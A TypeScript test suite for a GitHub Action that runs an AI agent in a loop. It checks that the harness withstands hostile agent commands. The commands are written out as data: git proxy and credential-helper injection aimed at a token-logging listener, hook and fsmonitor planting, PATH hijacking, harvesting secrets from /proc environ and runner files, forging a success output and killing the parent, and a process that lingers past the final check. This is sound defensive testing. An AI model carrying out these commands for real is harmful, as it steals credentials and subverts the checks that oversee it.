import { existsSync } from "node:fs";
import { mkdtemp, readFile, rm } from "node:fs/promises";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { expect, onTestFinished, test } from "vitest";
import { git } from "../../src/git/git.ts";
import { openGitHubHost } from "../parts/github-host/host.ts";
import { checkoutFrom, useOnHost } from "./source.ts";

const files = { "state.txt": "red\n" };

async function hostOf() {
  const host = await openGitHubHost({ files });
  onTestFinished(() => host.close());
  return host;
}

/** Somebody who writes down what is sent there. */
async function openListener() {
  const received: string[] = [];
  const server = createServer((request, response) => {
    received.push(`${request.method} ${request.url} ${request.headers.authorization ?? ""}`);
    response.writeHead(502).end();
  });
  await new Promise<void>((done) => server.listen(0, "127.0.0.1", done));
  onTestFinished(() => new Promise((done) => server.close(() => done())));
  return { heard: received, port: (server.address() as AddressInfo).port };
}

// What holds without walls; what holds behind them is in test/security.
const loop = {
  isolation: "off",
  prompt: "Go",
  "until-bash": "grep -qx green state.txt",
  "max-iterations": "2",
  "check-run": "false",
};

test("settings that an agent writes into our repositories do not redirect our pushes", async () => {
  const host = await hostOf();
  const { heard: received, port } = await openListener();
  const evil = `[http]\\n\\tproxy = http://127.0.0.1:${port}\\n\\tsslVerify = false\\n[credential]\\n\\thelper = !touch ${"$PWD"}/owned\\n`;
  const agent = `find "$RUNNER_TEMP" "$HOME" . -name config -path '*git*' -exec sh -c 'printf "${evil}" >> "$1"' _ {} \\; ; echo green > state.txt; echo done`;
  const result = await useOnHost({
    host,
    inputs: { ...loop, "agent-command": agent, publish: "branch", branch: "mended" },
  });
  expect(result.outputs, result.log.join("\n")).toMatchObject({ conclusion: "success", branch: "mended" });
  expect(host.git.git("show", "mended:state.txt")).toBe("green");
  expect(received).toEqual([]);
  await expect(readFile(join(result.workspace, "owned"))).rejects.toThrow();
});

test("what an agent leaves in git's settings and hooks of the checkout starts nothing in the next step", async () => {
  const host = await hostOf();
  const agent = `git config core.fsmonitor "touch $HOME/monitor; false"; printf '#!/bin/sh\ntouch $HOME/hook\n' > .git/hooks/post-checkout; chmod +x .git/hooks/post-checkout; git config user.name bot; echo green > state.txt; echo done`;
  const result = await useOnHost({ host, inputs: { ...loop, "agent-command": agent } });
  expect(result.outputs, result.log.join("\n")).toMatchObject({ conclusion: "success" });
  const settings = await readFile(join(result.workspace, ".git/config"), "utf8");
  expect(settings).not.toContain("fsmonitor");
  expect(existsSync(join(result.workspace, ".git/hooks/post-checkout"))).toBe(false);
  expect(result.annotations.map(({ message }) => message).join("\n")).toContain(
    "the run changed settings or hooks",
  );
});

test("programs that an agent puts on PATH in place of git and bash are never started", async () => {
  const host = await hostOf();
  const bin = await mkdtemp(join(tmpdir(), "bin-"));
  onTestFinished(() => rm(bin, { recursive: true, force: true }));
  const fake = `printf '#!/bin/sh\\necho "$0" >> ${bin}/started; env >> ${bin}/started; exit 0\\n'`;
  const agent = `for p in git bash; do ${fake} > ${bin}/$p; chmod +x ${bin}/$p; done; echo nothing done`;
  const env = { PATH: `${bin}:${process.env["PATH"]}`, HOME: bin };
  const result = await useOnHost({
    host,
    env,
    inputs: { ...loop, "agent-command": agent, publish: "branch", branch: "mended", "max-iterations": "1" },
  });
  expect(result.outputs, result.log.join("\n")).toMatchObject({
    conclusion: "failure",
    "stop-reason": "max-iterations",
  });
  await expect(readFile(join(bin, "started"), "utf8")).rejects.toThrow();
});

test("a key that an agent writes into a file reaches neither a branch nor the record of the run", async () => {
  const host = await hostOf();
  const result = await useOnHost({
    host,
    inputs: {
      ...loop,
      "anthropic-api-key": "sk-not-for-the-branch-0123456789",
      "agent-command": 'echo "$ANTHROPIC_API_KEY" > notes.txt; echo green > state.txt; echo done',
      publish: "branch",
      branch: "mended",
    },
  });
  expect(result.outputs["conclusion"]).toBe("failure");
  expect(result.log.join("\n")).toMatch(/contains a key or a token of this job \(in notes\.txt\)/);
  expect(host.git.git("for-each-ref", "refs/heads/mended")).toBe("");
  const run = String(result.outputs["run-id"]);
  expect(host.git.git("show", `refs/until-green/${run}/work:state.txt`)).toBe("green");
  expect(host.git.git("cat-file", "--batch-all-objects", "--batch")).not.toContain("sk-not-for-the-branch");
  const published = await useOnHost({
    host,
    inputs: { command: "publish", "run-id": run, branch: "mended" },
  });
  expect(published.log.join("\n")).toMatch(/is incomplete: a key or a token was found in notes\.txt/);
  expect(host.git.git("for-each-ref", "refs/heads/mended")).toBe("");
}, 120_000);

test("neither the tokens nor the secrets of the step are anywhere an agent can look, and later steps find them again", async () => {
  const host = await hostOf();
  const loot = join(await mkdtemp(join(tmpdir(), "loot-")), "all");
  onTestFinished(() => rm(join(loot, ".."), { recursive: true, force: true }));
  const workspace = await checkoutFrom(host, "main");
  const header = `http.${host.origin}/.extraheader`;
  const kept = Buffer.from(`x-access-token:${host.token}`).toString("base64");
  await git({ cwd: workspace, args: ["config", header, `AUTHORIZATION: basic ${kept}`] });
  // What the processes above it were started with, what is in the runner's folder and in git's.
  const agent = `{ p=$PPID; while [ "$p" -gt 1 ]; do tr '\\0' '\\n' < /proc/$p/environ; tr '\\0' ' ' < /proc/$p/cmdline;
    p=$(sed 's/.*) . //' /proc/$p/stat | cut -d' ' -f1); done; find "$RUNNER_TEMP" .git -type f -exec cat {} +; } >> ${loot} 2>&1
    echo green > state.txt; echo done`;
  const secrets = {
    NPM_TOKEN: "npm-token-of-the-step",
    ACTIONS_ID_TOKEN_REQUEST_TOKEN: "oidc-of-the-step",
    DATABASE_PASSWORD: "password\nin two lines",
  };
  const check =
    'test "$DATABASE_PASSWORD" = "$(printf "password\\nin two lines")" && grep -qx green state.txt';
  const result = await useOnHost({
    host,
    workspace,
    env: { ...secrets, UNTIL_GREEN_AGENT_ENV: "" },
    inputs: { ...loop, "agent-command": agent, "until-bash": check, "push-token": "push-token-of-the-step" },
  });
  expect(result.outputs["conclusion"], result.log.join("\n")).toBe("success");
  const seen = await readFile(loot, "latin1");
  expect(seen).toContain("GITHUB_WORKSPACE=");
  for (const secret of [
    host.token,
    kept,
    "push-token-of-the-step",
    "oidc-of-the-step",
    "npm-token-of-the-step",
  ])
    expect(seen).not.toContain(secret);
  expect((await git({ cwd: workspace, args: ["config", header] })).out).toContain(kept);
  expect(result.annotations.map(({ message }) => message).join()).toContain("persist-credentials: false");
});

test("an agent that says success where the runner reads it, and kills the program, leaves a failed step that says failure", async () => {
  const host = await hostOf();
  const agent = `for f in "$RUNNER_TEMP"/output-*; do echo "conclusion=success" >> "$f"; done;
    echo '::set-output name=conclusion::success' > /proc/$PPID/fd/1; kill -KILL $PPID; sleep 5`;
  const result = await useOnHost({ host, inputs: { ...loop, "agent-command": agent } });
  expect(result.ok).toBe(false);
  expect(result.outputs["conclusion"]).toBe("failure");
});

const lingering = `setsid env -i PATH="$PATH" bash -c 'touch .git/lurking; until test -f .git/checking; do sleep 0.05; done; echo evil > late.txt; exec sleep 1000' > /dev/null 2>&1 & until test -f .git/lurking; do sleep 0.05; done;`;

test.runIf(existsSync("/proc/self/stat"))(
  "a process that runs during the last check in its own session is ended, and what it wrote is not published",
  async () => {
    const host = await hostOf();
    const result = await useOnHost({
      host,
      inputs: {
        ...loop,
        "agent-command": `${lingering} echo green > state.txt; echo done`,
        "until-bash":
          // Bounded, as nothing writes that file in the fresh clone.
          "touch .git/checking; for i in {1..100}; do test -f late.txt && break; sleep 0.05; done; grep -qx green state.txt",
        // With walls nothing outlives the turn of its agent.
        isolation: "off",
        publish: "branch",
        branch: "mended",
      },
    });
    expect(result.outputs["conclusion"], result.log.join("\n")).toBe("success");
    const messages = result.annotations.map(({ message }) => message).join("\n");
    expect(messages).toMatch(/still running when the run ended or paused, and killed: sleep 1000/);
    expect(messages).toMatch(
      /left out, because another part of the run was active during its last check.*: late\.txt/,
    );
    expect(host.git.git("diff", "--name-only", "main", "mended")).toBe("state.txt");
  },
);

test("what the check itself writes is published with the work, and named", async () => {
  const host = await hostOf();
  const result = await useOnHost({
    host,
    inputs: {
      ...loop,
      "agent-command": "echo green > state.txt; echo done",
      "until-bash": "grep -qx green state.txt && echo formatted >> state.txt",
      publish: "branch",
      branch: "mended",
    },
  });
  expect(result.outputs["conclusion"], result.log.join("\n")).toBe("success");
  expect(host.git.git("show", "mended:state.txt")).toBe("green\nformatted");
  expect(result.annotations.map(({ message }) => message).join("\n")).toContain(
    "changed while the last check ran, or after it: state.txt",
  );
});
